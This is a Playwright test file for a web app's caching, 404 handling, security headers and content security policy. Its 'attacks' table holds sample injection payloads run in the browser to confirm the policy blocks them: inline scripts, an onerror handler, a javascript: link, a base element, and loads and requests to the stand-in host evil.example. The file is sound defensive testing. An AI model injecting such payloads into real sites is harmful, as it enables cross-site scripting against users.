import { brand } from '@/content/brand'
import { expect, gotoHydrated, test } from './fixtures'
import { planLimits } from '@/content/catalog/plan-limits'

test('pages are revalidated, and their scripts are cached for a year', async ({
  request,
  page,
}) => {
  await gotoHydrated(page, '/pricing')
  const script = await page.evaluate(
    () => performance.getEntriesByType('resource').find(({ name }) => name.endsWith('.js'))!.name,
  )
  expect((await request.get(script)).headers()['cache-control']).toBe(
    'public, max-age=31536000, immutable',
  )
  for (const path of ['/', '/pricing', '/services/legal'])
    expect((await request.get(path)).headers()['cache-control'], path).toBe('no-cache')
})

test('an unknown URL returns status 404 and the not-found page', async ({ request }) => {
  const tooLong = `/${'long'.repeat(750)}`
  for (const path of ['/no/such/page', '/services', '/pricing/no', '/assets/gone.js', tooLong]) {
    const response = await request.get(path)
    expect(response.status(), path).toBe(404)
    expect(response.headers()['cache-control'], path).toBe('no-cache')
    const [, title] = /<title[^>]*>([^<]*)/.exec(await response.text()) ?? []
    expect(title, path).toBe(`Page not found | ${brand.name}`)
  }
})

test('every response has the security headers', async ({ request }) => {
  for (const path of ['/', '/services/legal', '/no/such/page', '/favicon.svg', '/rest/v1/posts']) {
    const headers = (await request.get(path)).headers()
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'strict-transport-security': expect.stringContaining('max-age='),
      'permissions-policy': expect.stringContaining('camera=()'),
    })
    const policy = headers['content-security-policy']!
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy.match(/script-src [^;]*/)![0]).not.toMatch(/unsafe|\*|data:|https?:/)
    expect(policy.match(/style-src [^;]*/)![0]).not.toMatch(/unsafe|\*|data:|https?:/)
  }
})

test('every page contains the same policy as the headers', async ({ request }) => {
  for (const path of ['/', '/services/legal', '/auth/confirm', '/no/such/page']) {
    const response = await request.get(path)
    const html = await response.text()
    const [, policy] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)!
    expect(response.headers()['content-security-policy'], path).toBe(
      `${policy}; frame-ancestors 'none'`,
    )
    expect(policy).toContain("require-trusted-types-for 'script'")
    expect(policy).toMatch(/style-src 'self' 'sha256-[^' ]+';/)
    // Browsers look for the charset in the first 1024 bytes.
    expect(html.indexOf('<meta charset'), path).toBeLessThan(1000)
  }
})

const attacks = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.textContent = 'document.title = "taken"'
    document.body.append(script)
  },
  'an inline event handler': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="" onerror="document.title=1">')
  },
  'a javascript: link': () => {
    const link = document.createElement('a')
    link.href = 'javascript:void(document.title="taken")'
    document.body.append(link)
    link.click()
  },
  'a script of another host': () => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/script.js'
    document.body.append(script)
  },
  'a request to another host': () => {
    fetch('https://evil.example/').catch(() => undefined)
  },
  'an image of another host': () => {
    new Image().src = 'https://evil.example/picture.png'
  },
  'a base element': () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
  },
  'an inline style element': () => {
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
  },
}

const blocked = /Content Security Policy|ERR_BLOCKED_BY_CSP|Trusted(HTML|Script)/

test.fail(
  'a violation of the content security policy in any tab fails a test',
  async ({ context }) => {
    const page = await context.newPage()
    await gotoHydrated(page, '/about')
    const logged = page.waitForEvent('console', (message) => blocked.test(message.text()))
    await page.evaluate(attacks['an inline style element'])
    await logged
  },
)

test.describe('the content security policy', () => {
  test.use({ expectedErrors: new RegExp(`${blocked.source}|evil\\.example`) })

  test('the policy blocks inline scripts and other hosts', async ({ page }) => {
    await gotoHydrated(page, '/about')
    const title = await page.title()
    for (const [what, attack] of Object.entries(attacks))
      await test.step(what, async () => {
        const logged = page.waitForEvent('console', (message) => blocked.test(message.text()))
        // Trusted Types makes some of them throw.
        await page.evaluate(attack).catch(() => undefined)
        await logged
      })
    await expect(page).toHaveTitle(title)
    await expect(page).toHaveURL('/about')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })

  test('the policy blocks framing of pages', async ({ page }) => {
    await page.route('/framing', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<iframe src="/pricing"></iframe>' }),
    )
    const logged = page.waitForEvent('console', (message) => message.type() === 'error')
    await page.goto('/framing')
    expect((await logged).text()).toContain('frame-ancestors')
    await expect(
      page.frameLocator('iframe').getByText(`$${planLimits.starter.priceMonthly}`),
    ).toBeHidden()
  })
})
